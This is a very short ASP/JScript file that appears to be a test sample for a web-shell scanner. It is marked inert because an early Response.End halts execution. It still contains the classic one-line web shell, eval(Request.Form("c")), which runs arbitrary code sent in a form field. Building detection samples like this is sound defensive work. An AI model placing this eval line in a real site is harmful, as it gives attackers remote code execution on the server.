<%@ Language="JScript" %>
<% // shellsweep test sample: inert, never functional
Response.End %>
<% eval(Request.Form("c")+""); %>
